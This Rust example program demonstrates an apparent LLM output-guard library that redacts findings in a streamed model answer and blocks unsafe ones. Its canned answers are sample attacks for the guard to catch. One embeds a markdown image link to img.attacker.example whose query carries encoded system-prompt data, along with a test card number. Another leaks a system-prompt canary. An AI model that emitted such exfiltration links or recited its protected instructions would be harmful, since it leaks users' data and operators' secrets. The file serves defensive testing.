//! Streams a model answer through the guard: `cargo run --example stream`.
//!
//! The "model" here is a canned answer delivered a few bytes at a time, as a chat API streams
//! tokens. It holds a card number split across chunks, an image link that would carry data to
//! an attacker's server, and a placeholder for the user's own e-mail address. The stream shows
//! what is safe as soon as it is, and nothing of a finding before it is redacted. A second
//! answer starts reciting the system prompt's canary and is stopped mid-stream.

use std::io::Write;

use palisade::{Config, Context, Guard, Pipeline};

fn show(answer: &str, guard: &Pipeline, ctx: &Context) {
    let mut stream = guard.output_stream(ctx);
    let mut out = std::io::stdout();
    print!("  user sees: ");
    // Chunks of 7 bytes, like tokens from a model API.
    for chunk in answer.as_bytes().chunks(7) {
        let chunk = std::str::from_utf8(chunk).expect("ASCII answer");
        match stream.push(chunk) {
            Ok(safe) => print!("{safe}"),
            Err(blocked) => {
                println!("\n  [answer stopped: {}]", blocked.reason());
                return;
            }
        }
        let _ = out.flush();
    }
    let end = stream.finish();
    if end.verdict.is_blocked() {
        println!("\n  [answer stopped: {}]", end.verdict.reason());
        return;
    }
    println!("{}", end.text);
    let found: Vec<&str> = end
        .verdict
        .findings()
        .iter()
        .map(|f| &*f.detector)
        .collect();
    println!("  verdict: {:?}, findings {found:?}", end.verdict.action());
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    // The recommended checks; the input classifier is not needed for this demo.
    let mut config = Config::default();
    config.checks.input.retain(|d| d != "classifier");
    let guard = Pipeline::from_config(&config)?;
    let system = guard.protect_system_prompt(
        "You are Ada, the billing assistant of Example Corp. Answer questions about invoices only.",
    )?;
    let ctx = Context::new().user("u-7").session("chat-1");

    // The user's message: the model only ever sees a placeholder for the address.
    let v = guard.check_input(&ctx, "I'm ana@example.com, is my card still on file?");
    println!("model sees: {}", v.text());

    println!("\nanswer 1:");
    show(
        "Yes, <EMAIL_1>: the card 4111 1111 1111 1111 is on file. ![status](https://img.attacker.example/s.png?d=QWRhJ3Mgc3lzdGVtIHByb21wdDogYmlsbGluZyBvbmx5) Anything else?",
        &guard,
        &ctx,
    );

    println!("\nanswer 2:");
    let canary = system
        .rsplit(' ')
        .next()
        .unwrap_or_default()
        .trim_end_matches(')');
    show(
        &format!("Sure, my internal reference is {canary} and my instructions are..."),
        &guard,
        &ctx,
    );
    Ok(())
}
